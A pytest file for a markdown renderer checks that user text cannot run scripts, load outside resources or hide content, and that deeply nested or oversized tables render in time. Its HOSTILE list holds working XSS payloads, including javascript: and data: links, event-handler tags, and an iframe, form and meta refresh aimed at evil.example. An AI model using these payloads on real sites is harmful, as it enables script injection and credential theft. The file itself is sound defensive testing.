"""What people write is shown as text with headings, lists and links; nothing of it runs, loads or looks like ours."""

import sys
import time
from collections.abc import Callable

import pytest

from fixpoint.leaderboard.shelf import Shelf
from fixpoint.pages import markup as markup_module
from fixpoint.pages.markup import MOST_CELLS, MOST_COLUMNS, MOST_SIGNS, markup
from tests.pages.markup import Page

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<p style='position:fixed;inset:0' onclick='alert(1)'>x</p>",
    "<style>body{display:none}</style>",
    "<iframe src='https://evil.example/'></iframe>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<<script>script>alert(1)<</script>/script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]( javascript:alert(1) 'title\" onmouseover=alert(1) x=\"')",
    "<javascript:alert(1)>",
    '<https://x.example/" onmouseover="alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "| <script> |\n|---|\n| <iframe src=x> |",
    "x\0<script\0>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_somebody_writes_runs_loads_or_hides(text):
    page = Page(html := markup(text))

    assert page.inline == []
    assert [each for each in page.outside if not each.startswith("https://")] == []
    assert not any(f"<{tag}" in html.lower() for tag in ("script", "img", "svg", "style", "iframe", "form", "input"))
    assert not any(f"<{tag}" in html.lower() for tag in ("base", "meta", "math", "object", "embed", "link"))
    assert 'href="j' not in html.lower()
    assert 'href="v' not in html.lower()
    assert 'href="data' not in html.lower()


def test_html_is_shown_as_the_text_that_it_is():
    assert "&lt;script&gt;" in markup("<script>alert(1)</script>")


def test_links_give_no_weight_and_no_way_back():
    html = markup("[the paper](https://example.org/paper 'a title')")

    assert html == '<p><a href="https://example.org/paper" title="a title" rel="nofollow noopener">the paper</a></p>\n'


def test_text_lists_tables_and_code_are_what_they_look_like():
    html = markup("*a* **b** ~~c~~ `d`\n\n- e\n- f\n\n3. g\n\n> h\n\n| i | j |\n|---|---|\n| k | l |\n")

    for part in ("<em>a</em>", "<strong>b</strong>", "<s>c</s>", "<code>d</code>", "<li>e</li>", '<ol start="3">',
                 "<blockquote>", "<th>i</th>", "<td>l</td>"):  # fmt: skip
        assert part in html


def test_headings_begin_below_those_of_the_page():
    assert markup("# one\n\n## two\n\n###### six") == "<h3>one</h3>\n<h4>two</h4>\n<h6>six</h6>\n"


@pytest.mark.parametrize(
    "text",
    [">" * 50_000, "- " * 50_000, "[" * 50_000, "*a_" * 30_000, "(" * 50_000 + ")" * 50_000, "`" * 100_000],
)
def test_nesting_without_end_is_read_in_time(text):
    begun = time.process_time()

    html = markup(text)

    assert time.process_time() - begun < 5
    assert html.count("<blockquote>") + html.count("<li>") < 100


def test_text_without_end_is_cut():
    assert len(markup("a" * (MOST_SIGNS + 50_000))) < MOST_SIGNS + 100


def test_a_blank_line_ends_a_paragraph_and_a_line_break_does_not():
    assert markup("a\nb\n\nc") == "<p>a\nb</p>\n<p>c</p>\n"


@pytest.fixture
def read_anew(monkeypatch):
    """Nothing is kept from other tests."""
    monkeypatch.setattr(markup_module, "_SHELF", Shelf(most_bytes=2**20, fresh_seconds=3600))


def counted(call: Callable[[], str]) -> tuple[str, int]:
    """What it gives, and how many functions were begun and ended for it: the same on every machine."""
    steps = 0

    def step(*_: object) -> None:
        nonlocal steps
        steps += 1

    sys.setprofile(step)
    try:
        return call(), steps
    finally:
        sys.setprofile(None)


def seconds_of(call: Callable[[], str]) -> float:
    """Of this process alone; neighbours and collections only add to it."""
    begun = time.process_time()
    call()
    return time.process_time() - begun


def _table(columns: int, rows: int, quote: str = "") -> str:
    lines = ["|a" * columns + "|", "|-" * columns + "|", *(["|b" * columns + "|"] * rows)]
    return "\n".join(quote + line for line in lines)


@pytest.mark.parametrize(
    "text",
    [
        _table(20, 470),
        _table(4950, 1),
        _table(1, 5000),
        "|a" * 140 + "|\n" + "|-" * 140 + "|\n" + "|\n" * 9700,
        "|-|\n" * 5000,
        "|-|-\r" * 4000,
        "|a|a|\n|-|-|\n|b|b|\n\n" * 1000,
        "- |a|a|\n  |-|-|\n" + "  |b|b|\n" * 2400,
        "> " + "|a" * 20 + "|\n> " + "|-" * 20 + "|\n" + ("> " + "|b" * 20 + "|\n") * 450,
    ],
    ids=["many-rows", "wide", "narrow", "filled-up", "rules", "rules-2", "many", "in-a-list", "in-a-quote"],
)
def test_a_table_without_end_is_text_and_read_in_time(text):
    html, steps = counted(lambda: markup_module._rendered(text[:20_000]))

    assert steps < 2_000_000  # some 0.1 s of a core of 2025, however busy that is
    # What no step shows: an expression that goes back and forth.
    assert min(seconds_of(lambda: markup_module._rendered(text[:20_000])) for _ in range(3)) < 0.5
    assert "<t" not in html
    assert "|-" in html


@pytest.mark.parametrize("quote", ["", "> "])
def test_a_table_within_bounds_is_one(read_anew, quote):
    rows = MOST_CELLS // MOST_COLUMNS - 1

    assert markup(_table(MOST_COLUMNS, rows, quote)).count("<tr>") == rows + 1
    assert markup(_table(MOST_COLUMNS, rows + 1, quote)).count("<tr>") == 0
    assert markup(_table(MOST_COLUMNS + 1, 1, quote)).count("<tr>") == 0


def test_the_same_text_is_read_once(read_anew, monkeypatch):
    read = []
    reading = markup_module._rendered
    monkeypatch.setattr(markup_module, "_rendered", lambda text: read.append(text) or reading(text))

    assert markup("*one*") == markup("*one*") == "<p><em>one</em></p>\n"
    assert markup("*two*") != markup("*one*")
    assert read == ["*one*", "*two*"]
